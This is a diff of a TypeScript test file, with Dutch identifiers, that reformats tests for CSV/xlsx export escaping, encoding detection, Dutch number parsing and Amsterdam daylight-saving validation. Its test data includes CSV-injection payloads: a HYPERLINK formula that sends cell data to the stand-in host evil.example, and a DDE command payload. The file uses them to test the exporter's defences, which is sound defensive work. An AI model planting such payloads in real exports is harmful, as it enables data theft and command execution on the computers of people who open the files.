@@ -36,7 +36,14 @@ async function inStore<T>(fn: (s: SqliteListStore) => Promise<T>): Promise<T> {
 const SESSIE_KOP = 'sessieId;start;eind;soort;locatie;online;afnemer;capaciteit';
 
 describe('CSV and xlsx exports neutralise formula triggers (OWASP CSV injection)', () => {
-  const gevaarlijk = ['=HYPERLINK("http://evil.example/?d="&A1,"klik")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)', "'=al een apostrof", "'gewoon citaat"];
+  const gevaarlijk = [
+    '=HYPERLINK("http://evil.example/?d="&A1,"klik")',
+    "+cmd|' /C calc'!A0",
+    '-2+3',
+    '@SUM(A1:A9)',
+    "'=al een apostrof",
+    "'gewoon citaat",
+  ];
   const sessies = gevaarlijk.map((locatie, i) => ({
     sessieId: `S-${i}`,
     start: '2026-06-01T08:00:00.000Z',
@@ -76,7 +83,9 @@ describe('CSV and xlsx exports neutralise formula triggers (OWASP CSV injection)
 
   test('a tab or carriage return at the start of a note is neutralised and restored', () => {
     for (const tekst of ['\tstart met tab', '\rstart met CR']) {
-      const csv = itemsToCsv('Dilemmas', [{ dilemmaId: 'D-1', titel: 'Titel', tekst, opties: '["a","b"]', thema: 'zakelijk', bron: 'eigen' }]);
+      const csv = itemsToCsv('Dilemmas', [
+        { dilemmaId: 'D-1', titel: 'Titel', tekst, opties: '["a","b"]', thema: 'zakelijk', bron: 'eigen' },
+      ]);
       const cel = parseCsv<Record<string, string>>(csv.replace(/^\uFEFF/, ''), { delimiter: ';', columns: true })[0].tekst;
       expect(cel).toBe(`'${tekst}`);
       expect(herstelFormule(cel)).toBe(tekst);
@@ -84,7 +93,8 @@ describe('CSV and xlsx exports neutralise formula triggers (OWASP CSV injection)
   });
 
   test('the escape is reversible for every text', () => {
-    for (const s of ['=1+1', "'=1+1", "''=1+1", "'hallo", 'hallo', '-', "'", '', '@', "'@"]) expect(herstelFormule(neutraliseerFormule(s))).toBe(s);
+    for (const s of ['=1+1', "'=1+1", "''=1+1", "'hallo", 'hallo', '-', "'", '', '@', "'@"])
+      expect(herstelFormule(neutraliseerFormule(s))).toBe(s);
   });
 
   test('a negative number in a number column is written as a number, without a quote', () => {
@@ -118,7 +128,10 @@ describe('encoding: a file that is not UTF-8 is read as Windows-1252, with a not
 
   test('a file already damaged (U+FFFD in the text) is refused with the row and column, and nothing is stored', async () => {
     const bestand = path.join(dir, 'sessies.csv');
-    fs.writeFileSync(bestand, `${SESSIE_KOP}\nS-1;2026-06-01 10:00;2026-06-01 11:00;ambtseed;Caf\uFFFD \uFFFD-zaal;nee;Gedeputeerde Ren\uFFFD;20\n`);
+    fs.writeFileSync(
+      bestand,
+      `${SESSIE_KOP}\nS-1;2026-06-01 10:00;2026-06-01 11:00;ambtseed;Caf\uFFFD \uFFFD-zaal;nee;Gedeputeerde Ren\uFFFD;20\n`,
+    );
     const r = await lists('import', bestand, '--list', 'AmbtseedSessies');
     expect(r.code).toBe(1);
     expect(r.err).toMatch(/regel 2, kolom locatie: bevat het teken � \(U\+FFFD\)/);
@@ -127,7 +140,11 @@ describe('encoding: a file that is not UTF-8 is read as Windows-1252, with a not
   });
 
   test('a byte that Windows-1252 does not define (0x81) is not stored silently either', () => {
-    const bytes = Buffer.concat([Buffer.from(`${SESSIE_KOP}\nS-1;2026-06-01 10:00;2026-06-01 11:00;ambtseed;zaal `), Buffer.from([0x81]), Buffer.from(';nee;secretaris;20\n')]);
+    const bytes = Buffer.concat([
+      Buffer.from(`${SESSIE_KOP}\nS-1;2026-06-01 10:00;2026-06-01 11:00;ambtseed;zaal `),
+      Buffer.from([0x81]),
+      Buffer.from(';nee;secretaris;20\n'),
+    ]);
     const d = decodeerBestand(bytes, 'x.csv');
     expect(d.codering).toBe('windows-1252');
     const r = parseCsvItems('AmbtseedSessies', d.tekst);
@@ -161,7 +178,12 @@ describe('numbers as Dutch Excel writes them', () => {
   });
 
   test('a CSV with such numbers imports nothing and names each line and column', async () => {
-    const rows = ['S-1;2026-06-01 10:00;2026-06-01 11:00;ambtseed;zaal;nee;secretaris;2.000', 'S-2;2026-06-02 10:00;2026-06-02 11:00;ambtseed;zaal;nee;secretaris;0x10', 'S-3;2026-06-03 10:00;2026-06-03 11:00;ambtseed;zaal;nee;secretaris;1e3', 'S-4;2026-06-04 10:00;2026-06-04 11:00;ambtseed;zaal;nee;secretaris;12.5'];
+    const rows = [
+      'S-1;2026-06-01 10:00;2026-06-01 11:00;ambtseed;zaal;nee;secretaris;2.000',
+      'S-2;2026-06-02 10:00;2026-06-02 11:00;ambtseed;zaal;nee;secretaris;0x10',
+      'S-3;2026-06-03 10:00;2026-06-03 11:00;ambtseed;zaal;nee;secretaris;1e3',
+      'S-4;2026-06-04 10:00;2026-06-04 11:00;ambtseed;zaal;nee;secretaris;12.5',
+    ];
     const bestand = path.join(dir, 'sessies.csv');
     fs.writeFileSync(bestand, `${SESSIE_KOP}\n${rows.join('\n')}\n`);
     const r = await lists('import', bestand, '--list', 'AmbtseedSessies');
@@ -189,7 +211,9 @@ describe('import: Europe/Amsterdam wall times through the one date module', () =
   test('a time in the hour skipped on the last Sunday of March is refused, naming the switch', async () => {
     const r = await importeer(regel('S-1', '2026-03-29 02:30', '2026-03-29 03:30'));
     expect(r.code).toBe(1);
-    expect(r.err).toContain('regel 2, kolom start: 2026-03-29 02:30 bestaat niet in Nederland: op zondag 29 maart 2026 begint de zomertijd en gaat de klok om 02:00 een uur vooruit naar 03:00');
+    expect(r.err).toContain(
+      'regel 2, kolom start: 2026-03-29 02:30 bestaat niet in Nederland: op zondag 29 maart 2026 begint de zomertijd en gaat de klok om 02:00 een uur vooruit naar 03:00',
+    );
     expect(r.err).not.toMatch(/kolom eind/);
   });
 
@@ -210,7 +234,9 @@ describe('import: Europe/Amsterdam wall times through the one date module', () =
     expect(r.err).toContain('regel 2, kolom start: 2027-02-31 bestaat niet: februari 2027 heeft 28 dagen.');
     expect(r.err).toContain('regel 2, kolom eind: 2027-02-31 bestaat niet: februari 2027 heeft 28 dagen.');
     const nm = parseCsvItems('NieuweMedewerkers', 'medewerkerId;indienstOp;dienstverband\nmw-1;31-02-2027;extern\n');
-    expect(!nm.ok && nm.problems).toEqual([{ line: 2, column: 'indienstOp', message: '2027-02-31 bestaat niet: februari 2027 heeft 28 dagen.' }]);
+    expect(!nm.ok && nm.problems).toEqual([
+      { line: 2, column: 'indienstOp', message: '2027-02-31 bestaat niet: februari 2027 heeft 28 dagen.' },
+    ]);
   });
 
   test('ordinary times either side of both switches import as the right instant', async () => {
